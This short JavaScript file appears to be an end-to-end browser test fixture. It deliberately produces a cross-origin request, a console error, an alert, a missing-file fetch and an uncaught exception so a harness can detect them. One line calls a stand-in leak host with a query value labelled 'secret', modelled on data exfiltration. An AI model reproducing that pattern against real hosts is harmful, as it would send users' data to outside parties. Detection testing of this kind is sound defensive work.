// A request to another origin (its host name never resolves: see the
// browser's --host-resolver-rules), a console error, a dialog, an uncaught
// exception and a missing file.
fetch("http://leak.example.invalid/collect?d=secret").catch(() => {});
console.error("e2e-marker: console error");
alert("e2e-marker: alert");
fetch("missing.txt").catch(() => {});
setTimeout(() => {
  throw new Error("e2e-marker: uncaught");
}, 0);
